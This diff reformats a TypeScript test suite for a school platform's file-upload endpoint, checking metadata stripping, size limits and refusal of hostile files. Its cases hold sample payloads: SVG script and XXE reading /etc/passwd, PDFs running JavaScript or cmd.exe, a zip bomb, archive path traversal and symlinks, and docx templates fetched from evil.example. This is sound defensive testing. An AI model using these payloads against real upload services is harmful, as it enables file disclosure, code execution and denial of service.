@@ -25,15 +25,32 @@ beforeAll(async () => {
 afterAll(() => server.stop());
 
 type Answer = { status: number; body: Attachment & { code: string } };
-async function send(name: string, bytes: Buffer | string, options: { as?: TestAccount; alt?: string; mime?: string; key?: string } = {}): Promise<Answer> {
+async function send(
+  name: string,
+  bytes: Buffer | string,
+  options: { as?: TestAccount; alt?: string; mime?: string; key?: string } = {},
+): Promise<Answer> {
   const form = new FormData();
   if (options.alt !== undefined) form.set('alt', options.alt);
-  form.set('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type: options.mime ?? 'application/octet-stream' }), name);
+  form.set(
+    'file',
+    new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], {
+      type: options.mime ?? 'application/octet-stream',
+    }),
+    name,
+  );
   const { token } = options.as ?? school.accounts.prof;
-  const response = await fetch(`${server.base}/api/${school.schoolId}/files`, { method: 'POST', headers: { authorization: `Bearer ${token}`, ...(options.key && { 'idempotency-key': options.key }) }, body: form });
+  const response = await fetch(`${server.base}/api/${school.schoolId}/files`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${token}`, ...(options.key && { 'idempotency-key': options.key }) },
+    body: form,
+  });
   return { status: response.status, body: (await response.json()) as Answer['body'] };
 }
-const rows = () => withTenant(server.kernel.pool, school.schoolId, { readOnly: true }, (db) => db.selectFrom('files').selectAll().execute());
+const rows = () =>
+  withTenant(server.kernel.pool, school.schoolId, { readOnly: true }, (db) =>
+    db.selectFrom('files').selectAll().execute(),
+  );
 const picture = (width = 900, height = 600) => sharp({ create: { width, height, channels: 3, background: '#446688' } });
 
 /** A zip of entries, stored or deflated, with sizes that may lie. */
@@ -48,7 +65,10 @@ function zip(entries: readonly { name: string; data: Buffer; method?: 0 | 8; mod
     head.writeUInt32LE(0x04034b50, 0);
     entry.writeUInt32LE(0x02014b50, 0);
     entry.writeUInt16LE((3 << 8) | 20, 4);
-    for (const [target, from] of [[head, 4], [entry, 6]] as const) {
+    for (const [target, from] of [
+      [head, 4],
+      [entry, 6],
+    ] as const) {
       target.writeUInt16LE(20, from);
       target.writeUInt16LE(method, from + 4);
       target.writeUInt32LE(crc32(data), from + 10);
@@ -71,33 +91,57 @@ function zip(entries: readonly { name: string; data: Buffer; method?: 0 | 8; mod
   end.writeUInt32LE(at, 16);
   return Buffer.concat([...parts, directory, end]);
 }
-const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
-const docx = (more: Parameters<typeof zip>[0] = []): Buffer => zip([{ name: '[Content_Types].xml', data: Buffer.from(types) }, { name: '_rels/.rels', data: Buffer.from('<Relationships/>') }, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }, ...more]);
-const pdf = (catalog = ''): string => `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\nxref\n0 4\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n9\n%%EOF\n`;
+const types =
+  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
+const docx = (more: Parameters<typeof zip>[0] = []): Buffer =>
+  zip([
+    { name: '[Content_Types].xml', data: Buffer.from(types) },
+    { name: '_rels/.rels', data: Buffer.from('<Relationships/>') },
+    { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
+    ...more,
+  ]);
+const pdf = (catalog = ''): string =>
+  `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\nxref\n0 4\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n9\n%%EOF\n`;
 
 describe('pictures', () => {
   it('are made anew, in several widths, without what the camera wrote (SEC-FIL-05)', async () => {
-    const bytes = await picture().withExif({ IFD0: { Artist: 'Samira Photographe' }, IFD3: { GPSLatitude: '33/1 35/1 0/1' } }).jpeg().toBuffer();
+    const bytes = await picture()
+      .withExif({ IFD0: { Artist: 'Samira Photographe' }, IFD3: { GPSLatitude: '33/1 35/1 0/1' } })
+      .jpeg()
+      .toBuffer();
     expect(bytes.includes('Samira Photographe')).toBe(true);
     const { status, body } = await send('IMG_2024.JPG', bytes, { alt: ' Une cour ' });
     expect(status).toBe(200);
-    expect(body).toMatchObject({ type: 'image', mime: 'image/webp', name: 'IMG_2024.webp', width: 900, height: 600, alt: 'Une cour', fichier: `${body.id}.webp` });
+    expect(body).toMatchObject({
+      type: 'image',
+      mime: 'image/webp',
+      name: 'IMG_2024.webp',
+      width: 900,
+      height: 600,
+      alt: 'Une cour',
+      fichier: `${body.id}.webp`,
+    });
     const row = (await rows()).find(({ id }) => id === body.id)!;
     expect(row.variants).toEqual(['96', '320', '800']);
     for (const variant of [undefined, ...row.variants]) {
-      const stored = await buffer((await server.kernel.files.get(storeKey(school.schoolId, row.sha256, variant))).stream);
+      const stored = await buffer(
+        (await server.kernel.files.get(storeKey(school.schoolId, row.sha256, variant))).stream,
+      );
       expect(stored.includes('Samira')).toBe(false);
       expect((await sharp(stored).metadata()).exif).toBeUndefined();
     }
   });
 
   it('lose their script with their vectors (SEC-FIL-04)', async () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)"><script>alert(2)</script><rect width="40" height="40" fill="red"/></svg>';
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)"><script>alert(2)</script><rect width="40" height="40" fill="red"/></svg>';
     const { status, body } = await send('logo.svg', svg);
     if (status === 200) {
       expect(body.mime).toBe('image/webp');
       const { sha256 } = (await rows()).find(({ id }) => id === body.id)!;
-      expect((await buffer((await server.kernel.files.get(storeKey(school.schoolId, sha256))).stream)).includes('alert')).toBe(false);
+      expect(
+        (await buffer((await server.kernel.files.get(storeKey(school.schoolId, sha256))).stream)).includes('alert'),
+      ).toBe(false);
     } else expect(body.code).toBe('files.type_refused');
     for (const hostile of [
       '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>',
@@ -105,12 +149,16 @@ describe('pictures', () => {
       '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
     ]) {
       const answer = await send('x.svg', hostile);
-      expect(answer.status === 200 ? answer.body.mime : answer.body.code).toMatch(/^image\/webp$|^files\.(type_refused|broken)$/);
+      expect(answer.status === 200 ? answer.body.mime : answer.body.code).toMatch(
+        /^image\/webp$|^files\.(type_refused|broken)$/,
+      );
     }
   });
 
   it('of a hundred megapixels, or broken, are refused quickly', async () => {
-    const huge = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' } }).png({ compressionLevel: 9 }).toBuffer();
+    const huge = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' } })
+      .png({ compressionLevel: 9 })
+      .toBuffer();
     const start = Date.now();
     expect(await send('huge.png', huge)).toMatchObject({ status: 400, body: { code: 'files.too_many_pixels' } });
     expect(Date.now() - start).toBeLessThan(10_000);
@@ -138,14 +186,70 @@ describe('what is refused', () => {
     ['no extension', 'photo', () => picture(9, 9).png().toBuffer(), 'files.type_refused'],
     ['a page called a text', 'x.html', () => '<p>x</p>', 'files.type_refused'],
     ['a PDF that is not one', 'x.pdf', () => 'not a pdf at all', 'files.'],
-    ['a PDF with JavaScript', 'x.pdf', () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'files.type_refused'],
-    ['a PDF that starts a program', 'x.pdf', () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'files.type_refused'],
-    ['a zip bomb in a document', 'x.docx', () => docx([{ name: 'word/media/bomb.bin', data: Buffer.alloc(60_000_000) }]), 'files.archive_refused'],
-    ['a path out of the archive', 'x.docx', () => docx([{ name: '../../etc/cron.d/x', data: Buffer.from('x') }]), 'files.archive_refused'],
-    ['a link in the archive', 'x.docx', () => docx([{ name: 'word/link', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]), 'files.archive_refused'],
-    ['a thousand and one entries', 'x.docx', () => docx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/${i}.xml`, data: Buffer.from('x') }))), 'files.archive_refused'],
-    ['a template fetched from elsewhere, behind a sign that ends no tag', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', data: Buffer.from('<Relationships><Relationship Id=">" TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>') }]), 'files.archive_refused'],
-    ['a template fetched from elsewhere, spelled in numbers', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', data: Buffer.from('<Relationships><Relationship TargetMode="&#69;xternal" Type="http://x/attached&#x54;emplate" Target="http://evil.example/x.dotm"/></Relationships>') }]), 'files.archive_refused'],
+    [
+      'a PDF with JavaScript',
+      'x.pdf',
+      () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+      'files.type_refused',
+    ],
+    [
+      'a PDF that starts a program',
+      'x.pdf',
+      () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
+      'files.type_refused',
+    ],
+    [
+      'a zip bomb in a document',
+      'x.docx',
+      () => docx([{ name: 'word/media/bomb.bin', data: Buffer.alloc(60_000_000) }]),
+      'files.archive_refused',
+    ],
+    [
+      'a path out of the archive',
+      'x.docx',
+      () => docx([{ name: '../../etc/cron.d/x', data: Buffer.from('x') }]),
+      'files.archive_refused',
+    ],
+    [
+      'a link in the archive',
+      'x.docx',
+      () => docx([{ name: 'word/link', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
+      'files.archive_refused',
+    ],
+    [
+      'a thousand and one entries',
+      'x.docx',
+      () => docx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/${i}.xml`, data: Buffer.from('x') }))),
+      'files.archive_refused',
+    ],
+    [
+      'a template fetched from elsewhere, behind a sign that ends no tag',
+      'x.docx',
+      () =>
+        docx([
+          {
+            name: 'word/_rels/document.xml.rels',
+            data: Buffer.from(
+              '<Relationships><Relationship Id=">" TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>',
+            ),
+          },
+        ]),
+      'files.archive_refused',
+    ],
+    [
+      'a template fetched from elsewhere, spelled in numbers',
+      'x.docx',
+      () =>
+        docx([
+          {
+            name: 'word/_rels/document.xml.rels',
+            data: Buffer.from(
+              '<Relationships><Relationship TargetMode="&#69;xternal" Type="http://x/attached&#x54;emplate" Target="http://evil.example/x.dotm"/></Relationships>',
+            ),
+          },
+        ]),
+      'files.archive_refused',
+    ],
     ['a macro', 'x.docx', () => docx([{ name: 'word/vbaProject.bin', data: Buffer.from('x') }]), 'files.'],
     ['a zip called a document', 'x.docx', () => zip([{ name: 'readme.txt', data: Buffer.from('x') }]), 'files.'],
     ['a program called a film', 'x.mp4', () => Buffer.concat([Buffer.from('MZ'), randomBytes(300)]), 'files.'],
@@ -161,10 +265,30 @@ describe('what is refused', () => {
 
   it.each<[string, string, () => Buffer]>([
     ['comments after a picture', 'x.svg', () => Buffer.from(`<svg></svg>${'<!---->'.repeat(60)}x`)],
-    ['a picture of document types', 'x.svg', () => Buffer.from(`<svg>${'<!DOCTYPE'.repeat(19_000)}${'x'.repeat(700_000)}</svg>`)],
+    [
+      'a picture of document types',
+      'x.svg',
+      () => Buffer.from(`<svg>${'<!DOCTYPE'.repeat(19_000)}${'x'.repeat(700_000)}</svg>`),
+    ],
     ['an address of blanks', 'x.svg', () => Buffer.from(`<svg style="fill:url(${' '.repeat(300_000)})"></svg>`)],
-    ['a filter of blanks', 'x.pdf', () => Buffer.from(`%PDF-1.4\n1 0 obj << /First 1 /N 1 /Filter${' '.repeat(300_000)}x >>stream\nendstream\n%%EOF`)],
-    ['relationships without an end', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', method: 0, data: Buffer.from(`${'<Relationship '.repeat(200_000)}<`) }, { name: 'word/vbaProject.bin', data: Buffer.from('x') }])],
+    [
+      'a filter of blanks',
+      'x.pdf',
+      () => Buffer.from(`%PDF-1.4\n1 0 obj << /First 1 /N 1 /Filter${' '.repeat(300_000)}x >>stream\nendstream\n%%EOF`),
+    ],
+    [
+      'relationships without an end',
+      'x.docx',
+      () =>
+        docx([
+          {
+            name: 'word/_rels/document.xml.rels',
+            method: 0,
+            data: Buffer.from(`${'<Relationship '.repeat(200_000)}<`),
+          },
+          { name: 'word/vbaProject.bin', data: Buffer.from('x') },
+        ]),
+    ],
   ])('%s, before it costs anything (SEC-INJ-03)', async (_, name, make) => {
     const bytes = make();
     const from = performance.now();
@@ -177,7 +301,10 @@ describe('what is refused', () => {
   });
 
   it('too large, with 413, and nothing of it stays on disk (SEC-FIL-06)', async () => {
-    expect(await send('long.txt', Buffer.alloc(8_400_000, 97))).toMatchObject({ status: 413, body: { code: 'files.too_large' } });
+    expect(await send('long.txt', Buffer.alloc(8_400_000, 97))).toMatchObject({
+      status: 413,
+      body: { code: 'files.too_large' },
+    });
     // Other suites of this machine use the same folder for a moment.
     await expect.poll(() => readdir(join(tmpdir(), 'encrier-uploads')), { timeout: 5000 }).toEqual([]);
   });
@@ -189,31 +316,57 @@ describe('what is refused', () => {
     const address = `${server.base}/api/${school.schoolId}/files`;
     expect((await fetch(address, { method: 'POST', headers, body: form })).status).toBe(400);
     expect((await fetch(address, { method: 'POST', headers, body: new FormData() })).status).toBe(400);
-    expect((await fetch(address, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: '{}' })).status).toBe(400);
+    expect(
+      (
+        await fetch(address, {
+          method: 'POST',
+          headers: { ...headers, 'content-type': 'application/json' },
+          body: '{}',
+        })
+      ).status,
+    ).toBe(400);
     expect((await fetch(address, { method: 'POST', body: form })).status).toBe(401);
   });
 });
 
 it('no mutation of a good file gets more than a refusal (REL-FUZ-03)', async () => {
-  const good: [string, Buffer][] = [['a.png', await picture(40, 30).png().toBuffer()], ['a.jpg', await picture(40, 30).jpeg().toBuffer()], ['a.webp', await picture(40, 30).webp().toBuffer()], ['a.pdf', Buffer.from(pdf())], ['a.docx', docx()], ['a.txt', Buffer.from('Une note, avec des accents é à ç')]];
+  const good: [string, Buffer][] = [
+    ['a.png', await picture(40, 30).png().toBuffer()],
+    ['a.jpg', await picture(40, 30).jpeg().toBuffer()],
+    ['a.webp', await picture(40, 30).webp().toBuffer()],
+    ['a.pdf', Buffer.from(pdf())],
+    ['a.docx', docx()],
+    ['a.txt', Buffer.from('Une note, avec des accents é à ç')],
+  ];
   const flips = fc.array(fc.tuple(fc.nat(), fc.nat({ max: 255 })), { minLength: 1, maxLength: 12 });
-  await fc.assert(fc.asyncProperty(fc.constantFrom(...good), flips, fc.option(fc.nat()), async ([name, bytes], changes, cut) => {
-    const mutated = Buffer.from(bytes);
-    for (const [at, value] of changes) mutated[at % mutated.length] = value;
-    const buffer = cut === null ? mutated : mutated.subarray(0, cut % mutated.length);
-    try {
-      const seen = await inspectUpload({ name, buffer });
-      if (seen.type === 'image') await reencodeImage(buffer);
-    } catch (error) {
-      if (!(error instanceof FileRefused)) throw error;
-    }
-  }), { numRuns: 300 });
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...good), flips, fc.option(fc.nat()), async ([name, bytes], changes, cut) => {
+      const mutated = Buffer.from(bytes);
+      for (const [at, value] of changes) mutated[at % mutated.length] = value;
+      const buffer = cut === null ? mutated : mutated.subarray(0, cut % mutated.length);
+      try {
+        const seen = await inspectUpload({ name, buffer });
+        if (seen.type === 'image') await reencodeImage(buffer);
+      } catch (error) {
+        if (!(error instanceof FileRefused)) throw error;
+      }
+    }),
+    { numRuns: 300 },
+  );
 }, 60_000);
 
 describe('what is taken', () => {
   it('documents, texts and PDF files as they are', async () => {
-    expect((await send('Circulaire été.pdf', pdf())).body).toMatchObject({ type: 'pdf', mime: 'application/pdf', pages: 1, name: 'Circulaire été.pdf' });
-    expect((await send('note.txt', 'Une note, avec des accents é à ç')).body).toMatchObject({ type: 'text', mime: expect.stringMatching(/^text\/plain; charset=utf-8$/i) });
+    expect((await send('Circulaire été.pdf', pdf())).body).toMatchObject({
+      type: 'pdf',
+      mime: 'application/pdf',
+      pages: 1,
+      name: 'Circulaire été.pdf',
+    });
+    expect((await send('note.txt', 'Une note, avec des accents é à ç')).body).toMatchObject({
+      type: 'text',
+      mime: expect.stringMatching(/^text\/plain; charset=utf-8$/i),
+    });
     expect((await send('devoir.docx', docx())).body).toMatchObject({ type: 'office', size: docx().length });
   });
 
@@ -232,7 +385,17 @@ describe('what is taken', () => {
   });
 
   it('until the quota is reached, with 413', async () => {
-    await withTenant(server.kernel.pool, school.schoolId, {}, (db) => db.updateTable('files').set({ size: 41_000_000 }).where('id', '=', db.selectFrom('files').select('id').where('created_by', '=', school.accounts.prof.id).limit(1)).execute());
+    await withTenant(server.kernel.pool, school.schoolId, {}, (db) =>
+      db
+        .updateTable('files')
+        .set({ size: 41_000_000 })
+        .where(
+          'id',
+          '=',
+          db.selectFrom('files').select('id').where('created_by', '=', school.accounts.prof.id).limit(1),
+        )
+        .execute(),
+    );
     expect(await send('b.txt', 'encore')).toMatchObject({ status: 413, body: { code: 'files.quota' } });
     expect((await send('b.txt', 'encore', { as: school.accounts.parent })).status).toBe(200);
   });
